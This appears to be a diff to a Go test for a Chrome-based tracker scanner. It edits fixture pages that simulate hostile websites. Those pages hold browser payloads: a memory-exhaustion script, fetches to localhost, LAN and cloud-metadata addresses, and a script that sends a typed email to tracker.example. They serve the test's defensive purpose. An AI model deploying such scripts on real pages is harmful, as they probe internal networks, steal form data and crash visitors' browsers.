@@ -58,9 +58,10 @@ var hostile = map[string]string{
 	"/eats":        form + `<script>const all=[];setInterval(()=>{for(let i=0;i<4;i++)all.push(new Uint8Array(64<<20).fill(7))},10)</script>`,
 	"/reaches":     form + `<script>for(const a of ['http://127.0.0.1:PORT/','http://localhost:PORT/','http://192.168.1.1/admin','http://10.0.0.1/','http://169.254.169.254/latest/meta-data/','http://[::1]:PORT/'])fetch(a,{mode:'no-cors'}).catch(()=>{});new WebSocket('ws://127.0.0.1:PORT/');new Image().src='http://rebinds.example/'</script>`,
 	"/reloads":     form + `<script>setTimeout(()=>location.reload(),200)</script>`,
-	"/frames":      strings.Repeat(`<iframe src="/about"></iframe>`, 60) + form,
+	"/frames":      strings.Repeat(`<iframe src="/about"></iframe>`, 30) + form,
 	"/wall":        `<title>Just a moment...</title>Checking your browser`,
 	"/captcha":     form + `<div class="g-recaptcha"></div>`,
+	"/next":        strings.Replace(form, "Send", "Next", 1),
 	"/members":     `<title>Sign in</title><form><label>Password <input type="password" name="p"></label><button>Sign in</button></form>`,
 	"/schemes":     `<a href="file:///etc/passwd">a</a><a href="data:text/html,<h1>b</h1>">b</a><a href="javascript:alert(1)">c</a><a href="ftp://x.example/">d</a>` + form,
 	"/german":      `<html lang="de"><title>Termin anfragen</title><form><label>Ihr Name <input name="vorname"></label><label>E-Mail-Adresse <input name="mail"></label><label>Grund <textarea name="grund"></textarea></label><button>Absenden</button></form><script>document.querySelector('[name=mail]').onchange=(e)=>{new Image().src='http://tracker.example/p?m='+encodeURIComponent(e.target.value)}</script>`,
@@ -127,7 +128,7 @@ func TestAHostileSiteDoesNotStopAScan(t *testing.T) {
 		}
 		return lookup(ctx, host)
 	}
-	r, err := trackers.Scan(context.WithoutCancel(t.Context()), trackers.Once(trackers.Options{URL: "http://harbor.example/", Pages: len(hostile) + 8, Dir: profile(t), Net: n, Most: 10 * time.Second}))
+	r, err := trackers.Scan(context.WithoutCancel(t.Context()), trackers.Once(trackers.Options{URL: "http://harbor.example/", Pages: len(hostile) + 8, Dir: profile(t), Net: n, Most: 15 * time.Second}))
 	if errors.Is(err, chrome.ErrSandbox) {
 		t.Skip(err)
 	}
@@ -146,7 +147,7 @@ func TestAHostileSiteDoesNotStopAScan(t *testing.T) {
 		}
 	}
 	for path, want := range map[string][]chrome.Problem{"/loops": {chrome.Hung}, "/wall": {chrome.Blocked}, "/refused": {chrome.Blocked}, "/eats": {chrome.Crashed, chrome.Hung}, "/away": {chrome.Elsewhere}, "/round": {chrome.Unreachable}, "/paper": {chrome.NotHTML},
-		"/windows": {""}, "/asks": {""}, "/frames": {""}, "/german": {""}, "/schemes": {""}, "/reaches": {""}, "/captcha": {""}} {
+		"/windows": {""}, "/asks": {""}, "/frames": {""}, "/german": {""}, "/schemes": {""}, "/reaches": {""}, "/captcha": {""}, "/next": {""}} {
 		ok := false
 		for _, p := range want {
 			ok = ok || problems[path] == p
